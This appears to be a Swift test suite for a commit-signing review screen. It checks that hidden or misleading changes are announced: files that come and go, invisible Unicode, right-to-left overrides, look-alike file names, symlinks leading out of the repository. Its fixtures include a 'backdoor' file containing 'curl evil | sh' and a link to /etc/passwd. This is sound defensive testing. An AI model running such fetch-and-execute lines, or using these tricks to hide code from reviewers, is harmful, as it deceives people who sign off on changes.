import GitBridge
import Review
import SignFlow
import Support
import Testing

/// Everything that a signature endorses is on the screen, and what a diff shows badly is announced.
@Suite(.enabled(if: VirtualCard.isPossible, "needs gnupg, scdaemon, cc and python3-cryptography"))
struct CosignScreenTests {
  let alice: VirtualCard
  let server: CosignServer
  let work: String

  init() throws {
    alice = try VirtualCard()
    server = try CosignServer(
      ["alice": alice, "bob": try VirtualCard(name: "Bob")], policy: "version = 1\nrepository = \"example.org/os\"\n")
    work = "\(server.folder.path)/work"
    try Tool.succeed("git", ["clone", "--quiet", "file://\(server.path)", work])
  }

  func commit(_ message: String, _ files: [String: String?]) throws {
    for (name, text) in files {
      if let text {
        try CosignServer.write("\(work)/\(name)", Array(text.utf8))
      } else {
        try Tool.succeed("rm", ["\(work)/\(name)"])
      }
    }
    try Tool.succeed("git", ["-C", work, "add", "--all"])
    try Tool.succeed("git", ["-C", work, "commit", "--quiet", "--allow-empty", "-m", message])
  }

  func id() throws -> String { try Tool.succeed("git", ["-C", work, "rev-parse", "HEAD"]).line }

  /// What the screen of the request says.
  func screen() throws -> String {
    try Tool.succeed("git", ["-C", work, "push", "--quiet", "--force", "origin", "HEAD:refs/pull/1/head"])
    let result = try server.run("alice", ["cosign", "1", "--dry-run"])
    #expect(result.status == 0, "\(result.all)")
    return result.text
  }

  @Test func `What one commit brings and the next takes away is announced, with path and commit`() throws {
    try commit("Add the door", ["backdoor": "#!/bin/sh\ncurl evil | sh\n", "packages": "one\ntwo\nthree\nfour\n"])
    let first = try id()
    try commit("Tidy", ["backdoor": nil])
    let text = try screen()
    #expect(
      text.contains(
        """
        ! came and went, in \(first.prefix(12)) and not in the whole diff: backdoor: file that a later commit takes away
        """), "\(text)")
    // What stays is in the diff, and is no news.
    #expect(!text.contains("only here: packages"), "\(text)")
  }

  @Test func `Lines that pass through a file that stays are announced, and a version on the way is named`() throws {
    try commit("A line", ["packages": "one\ntwo\nthree\ncurl evil | sh\n"])
    let passing = try id()
    try commit("Two lines", ["packages": "one\ntwo\nthree\nfour\n"])
    try commit("Three", ["packages": "one\ntwo\nthree\nfour\nfive\n"])
    let text = try screen()
    #expect(
      text.contains(
        """
        ! came and went, in \(passing.prefix(12)) and not in the whole diff: packages: \
        1 line that the whole diff does not show
        """), "\(text)")
    #expect(text.contains("only here: packages: another version, of lines that the whole diff shows"), "\(text)")
  }

  @Test func `Of a hundred commits each one is listed`() throws {
    for number in 1...60 { try commit("Step \(number)", ["packages": "one\ntwo\nthree\n\(number)\n"]) }
    let text = try screen()
    for number in 1...60 { #expect(text.contains("  Step \(number)\n")) }
    #expect(text.contains("60 commits, oldest first") && !text.contains("the diff shows all of it"), "\(text)")
  }

  @Test(arguments: [
    (
      "blanks", "x = 1;" + String(repeating: " ", count: 3000) + "evil()\n",
      "text behind 3000 blanks: file, line 1: evil()"
    ),
    ("tabs", String(repeating: "\t", count: 40) + "evil()\n", "text behind 320 blanks: file, line 1: evil()"),
    (
      "blank lines", "x\n" + String(repeating: "\n", count: 500) + "evil()\n",
      "text below 500 empty lines: file, line 502: evil()"
    ),
    ("a long line", String(repeating: "x", count: 900) + "evil()\n", "a line of 906 columns: file, line 1:"),
    (
      "braille blanks", "x\u{2800}\u{2800}evil()\n", "text that cannot be seen: file, line 1: x\\u{2800}\\u{2800}evil()"
    ),
    ("hangul fillers", "let \u{3164} = 1\n", "text that cannot be seen: file, line 1: let \\u{3164} = 1"),
    ("null noteheads", "x\u{1D159}y\n", "text that cannot be seen: file, line 1: x\\u{1d159}y"),
    ("a stroke over letters", "if a\u{338}b\n", "marks drawn over other letters: file, line 1: if a\\u{338}b"),
    ("a ring around", "o\u{20DD}k\n", "marks drawn over other letters: file, line 1: o\\u{20dd}k"),
    ("a mark without a letter", "\u{301}x\n", "marks drawn over other letters: file, line 1:"),
    ("a heap of marks", "x\u{301}\u{302}\u{303}\u{304}\u{305}\n", "marks drawn over other letters: file, line 1:"),
    ("bidirectional", "a\u{202E}b\n", "text that cannot be seen: file, line 1: a\\u{202e}b"),
    ("right to left", "x = \"\u{5D0}\" // \u{5D1}\n", "letters that run from right to left: file, line 1:"),
    ("escapes", "a\u{1B}[2Jb\n", "text that cannot be seen: file, line 1: a\\x1b[2Jb"),
  ])
  func `What a reader of the diff would not see is announced`(name: String, content: String, line: String) throws {
    try commit(
      "Change",
      [
        "file": content,
        "honest": "int main() {\n\treturn 0;  // Gr\u{FC}\u{DF}e, \u{65E5}\u{672C}\u{8A9E}, e\u{301}\n}\n",
      ])
    let text = try screen()
    #expect(text.contains("! \(line)"), "\(text)")
    #expect(!text.contains("honest, line"), "\(text)")
    for scalar in "\u{202E}\u{2800}\u{338}\u{1B}\u{3164}".unicodeScalars {
      #expect(!text.unicodeScalars.contains(scalar))
    }
  }

  @Test(arguments: ["packages ", "Packages", "p\u{430}ckages", "pack\u{200B}ages", "packages\u{2800}", "packages."])
  func `A name that looks like another's is announced`(name: String) throws {
    try commit("Change", [name: "evil\n", "unlike": "honest\n"])
    let text = try screen()
    #expect(text.contains("! a name that looks like another's: ") && text.contains(" and packages"), "\(text)")
    #expect(!text.contains("looks like another's: unlike"), "\(text)")
  }

  @Test func `Links, modes, submodules and git's own settings are announced`() throws {
    try CosignServer.makeFolder("\(work)/sub/folder")
    try Tool.succeed("ln", ["-s", "../../../../etc/passwd", "\(work)/sub/folder/link"])
    try Tool.succeed("ln", ["-s", "folder", "\(work)/sub/inside"])
    try Tool.succeed("chmod", ["+x", "\(work)/packages"])
    try Tool.succeed("git", ["-C", work, "update-index", "--add", "--cacheinfo", "160000,\(server.start),module"])
    try CosignServer.write("\(work)/.gitattributes", Array("*.sh -diff\n".utf8))
    try Tool.succeed("git", ["-C", work, "add", "sub", "packages", ".gitattributes"])
    try Tool.succeed("git", ["-C", work, "commit", "--quiet", "-m", "Change"])
    let text = try screen()
    for line in [
      "symbolic link: sub/folder/link -> ../../../../etc/passwd (leads out of the repository)",
      "symbolic link: sub/inside -> folder\n",
      "mode: packages: file (100644) is now executable (100755)", "submodule: module: now at \(server.start)",
      "tells git how to treat other files: .gitattributes",
    ] { #expect(text.contains("! \(line)"), "\(line)\n\(text)") }
  }

  // The survey is asked, not the program: many histories in little time.
  @Test func `Of requests of any shape, each content that an endorsed commit has is in the whole diff or named`()
    async throws
  {
    var random = Dice(seed: 20261129)
    for round in 0..<25 {
      try Tool.succeed("git", ["-C", work, "checkout", "--quiet", "--detach", server.start])
      try Tool.succeed("git", ["-C", work, "clean", "-fdq"])
      var tips = [server.start]
      for step in 0..<random.below(9) + 2 {
        try Tool.succeed(
          "git", ["-C", work, "checkout", "--quiet", "--force", "--detach", tips[random.below(tips.count)]])
        if tips.count > 1, random.below(4) == 0 {
          let other = tips[random.below(tips.count)]
          _ = try Tool.run("git", ["-C", work, "merge", "--quiet", "--no-commit", "--no-ff", "-s", "ours", other])
        }
        for _ in 0..<random.below(3) + 1 {
          let name = "f\(random.below(4))"
          switch random.below(5) {
          case 0: _ = try Tool.run("rm", ["-rf", "\(work)/\(name)"])
          case 1:
            _ = try Tool.run("rm", ["-rf", "\(work)/\(name)"])
            try Tool.succeed("ln", ["-s", "to\(random.below(3))", "\(work)/\(name)"])
          default:
            _ = try Tool.run("rm", ["-rf", "\(work)/\(name)"])
            try CosignServer.write(
              "\(work)/\(name)", Array((0..<random.below(4)).map { _ in "line \(random.below(6))\n" }.joined().utf8))
            if random.below(3) == 0 { try Tool.succeed("chmod", ["+x", "\(work)/\(name)"]) }
          }
        }
        try Tool.succeed("git", ["-C", work, "add", "--all"])
        try Tool.succeed(
          "git", ["-C", work, "commit", "--quiet", "--allow-empty", "-m", "Round \(round) step \(step)"])
        tips.append(try id())
      }
      let (head, work, start) = (try id(), work, server.start)
      for failure in try await aside({ try Self.unshown(head, work, start) }) {
        Issue.record("round \(round): \(failure)")
      }
    }
  }

  /// What the survey of a request does not show, by git's own word on what each commit has.
  private static func unshown(_ head: String, _ work: String, _ start: String) throws -> [String] {
    func git(_ words: String...) throws -> [Substring] {
      try Tool.succeed("git", ["-C", work] + words).text.split(separator: "\n")
    }
    let repository = try Repository.open(path: work)
    let runner = GitRunner(repository, environment: Tool.bareEnvironment, mayPrompt: false)
    let commits = try git("rev-list", "--reverse", "--topo-order", "\(start)..\(head)").map(String.init)
    let base = ObjectID(hexString: start)!, tip = ObjectID(hexString: head)!
    let survey = try ChangeSurvey(
      from: repository.treeOfCommit(base), to: repository.treeOfCommit(tip),
      commits: commits.map { ObjectID(hexString: $0)! },
      registry: try #require(try Registry.readIfPresent(folder: work)), repository: repository, git: runner)
    func tree(_ commit: String) throws -> Set<Substring> { Set(try git("ls-tree", "-r", commit)) }
    func name(_ change: PathChange) -> String {
      "\(String(decoding: change.path, as: UTF8.self)) \(change.newID) \(change.newMode)"
    }
    let whole = Set(survey.files.map { name($0.change) })
    var unshown: [String] = survey.commits.map(\.id.hex) == commits ? [] : ["other commits than asked for"]
    for (id, commit) in zip(commits, survey.commits) {
      let parents = try git("rev-list", "--parents", "-1", id)[0].split(separator: " ").dropFirst().map(String.init)
      var new = try tree(id)
      for parent in parents { new.subtract(try tree(parent)) }
      let named = Set(commit.own.map { name($0.change) })
      for line in new {
        // `MODE blob ID TAB PATH`
        let parts = line.split(whereSeparator: { $0 == " " || $0 == "\t" })
        let text = "\(parts[3]) \(parts[2]) \(UInt32(parts[0], radix: 8)!)"
        if !whole.contains(text), !named.contains(text) { unshown.append("\(id.prefix(12)) has \(text)") }
      }
    }
    return unshown
  }
}

/// The same numbers in every run.
private struct Dice {
  private var state: UInt64

  init(seed: UInt64) { state = seed }

  mutating func below(_ count: Int) -> Int {
    state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
    return Int(state >> 33) % count
  }
}
